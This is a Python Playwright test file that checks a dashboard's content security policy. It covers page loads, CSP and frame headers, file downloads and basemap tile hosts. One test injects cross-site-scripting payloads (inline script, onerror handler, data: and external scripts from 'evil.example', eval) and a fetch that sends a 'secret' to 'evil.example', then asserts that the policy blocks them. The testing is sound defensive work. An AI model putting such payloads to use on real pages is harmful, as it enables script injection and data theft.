"""The content security policy in a real browser: every page works under it, and nothing is refused that is needed."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Response, Route, expect

from pages.door.headers import tile_hosts
from tests.browser.conftest import NewScreen
from tests.browser.screen import DRAWN, IDLE, MAP, PATIENCE, Screen
from tests.browser.still import wait_until_still
from tests.page_lists import NAMES

#: What is drawn by a library with needs of its own, and on which page there is one.
_DRAWN = {
    "timeline": ("svg.timeline",),
    "evidence": ('[data-testid="stDataFrame"] canvas', '[data-testid="stVegaLiteChart"] :is(svg, canvas)'),
}

#: The smallest picture there is.
_PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000001e221bc330000"
    "000049454e44ae426082"
)


@pytest.mark.parametrize("name", NAMES)
def test_every_page_works_under_its_policy(new_screen: NewScreen, name: str) -> None:
    """``new_screen`` fails where anything stands in the console, as every refusal does."""
    screen = new_screen(1280, 1600)
    page = screen.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))  # it then stays open, and what follows fails
    page.goto(f"{screen.home}/{'' if name == 'overview' else name}")
    page.wait_for_selector(IDLE, state="attached")
    for drawn in _DRAWN.get(name, ()):
        expect(page.locator(drawn).first).to_be_attached(timeout=PATIENCE)
    for opener in page.locator('[data-testid="stMain"] [data-testid="stExpander"] summary').all()[:4]:
        opener.click()
    page.wait_for_selector(IDLE, state="attached")
    wait_until_still(page)
    assert page.locator('[data-testid="stException"]').count() == 0
    assert dialogs == []


def test_files_are_handed_out_under_the_policy(screen: Screen) -> None:
    screen.open()
    screen.page.get_by_role("button", name="Take it with you").click()
    with screen.page.expect_download() as download:
        screen.page.get_by_role("button", name="GeoJSON").click()
    assert download.value.suggested_filename == "kidal-2024.geojson"


@pytest.mark.parametrize("path", ["/present", "/api/"])
def test_the_other_pages_work_under_theirs(new_screen: NewScreen, path: str) -> None:
    screen = new_screen()
    screen.page.goto(screen.home + path)
    wait_until_still(screen.page)
    assert screen.page.locator("body").inner_text().strip()


def test_a_page_and_its_frame_say_what_they_may(new_screen: NewScreen) -> None:
    screen = new_screen(alone=True)  # which has nothing in its cache
    answers: dict[str, Response] = {}
    screen.page.on("response", lambda answer: answers.update({re.sub(r"[?#].*", "", answer.url): answer}))
    screen.open()
    page = answers[f"{screen.home}/"].headers["content-security-policy"]
    frame = next(a for url, a in answers.items() if "/component/" in url and url.endswith("index.html"))
    assert "unsafe-eval" not in page
    assert "script-src 'self' blob: 'sha256-" in page
    assert "frame-ancestors 'none'" in page
    assert "frame-ancestors 'self'" in frame.headers["content-security-policy"]
    assert frame.headers["x-frame-options"] == "SAMEORIGIN"
    for url in (url for url in answers if url.startswith(screen.home)):  # others the browser makes for itself
        answer = answers[url]
        assert answer.headers.get("x-content-type-options") == "nosniff", (url, answer.status, answer.headers)
        assert "content-security-policy" in answer.headers, url


def test_a_script_that_came_in_by_a_text_is_refused(browser: Browser, dashboard: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(dashboard)
    page.wait_for_selector(IDLE, state="attached")
    ran = page.evaluate(
        """async () => {
            const add = (tag, set) => document.body.appendChild(Object.assign(document.createElement(tag), set));
            add("script", { textContent: "window.ran = 'inline'" });
            add("div", { innerHTML: "<img src=x: onerror=\\"window.ran = 'handler'\\">" });
            add("script", { src: "data:text/javascript,window.ran = 'data'" });
            add("script", { src: "https://evil.example/x.js" });
            // not at once: what drives the browser may compile text, what stands in the page may not
            setTimeout(() => { try { (0, eval)("window.ran = 'eval'"); } catch { /* as it should be */ } });
            const sent = await fetch("https://evil.example/?secret").then(() => "sent", () => "");
            await new Promise(done => setTimeout(done, 300));
            return [window.ran ?? "", sent];
        }"""
    )
    context.close()
    assert ran == ["", ""]


# the online basemaps


@pytest.fixture
def online(browser: Browser) -> Iterator[tuple[BrowserContext, list[str], list[str]]]:
    """A browser for which every tile host answers with a picture; the addresses it asked, and what it complained of."""
    asked: list[str] = []
    errors: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body=_PIXEL, content_type="image/png")

    context = browser.new_context(viewport={"width": 1280, "height": 720})
    context.set_default_timeout(PATIENCE)
    context.route(re.compile(r"^https://"), answer)
    context.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    yield context, asked, errors
    context.close()


def test_each_online_basemap_is_let_in(online: tuple[BrowserContext, list[str], list[str]], dashboard: str) -> None:
    context, asked, errors = online
    page: Page = context.new_page()
    page.goto(dashboard)
    frame = page.frame_locator(MAP)
    frame.locator(DRAWN).wait_for(state="attached")
    switch = frame.locator(".leaflet-control-layers")
    switch.hover()
    for choice in switch.locator("input").all():
        choice.check(force=True)
        wait_until_still(page)
    hosts = {"https://" + url.split("/")[2] for url in asked}
    assert hosts == set(tile_hosts())
    assert [error for error in errors if "Content Security Policy" in error or "violates" in error] == []
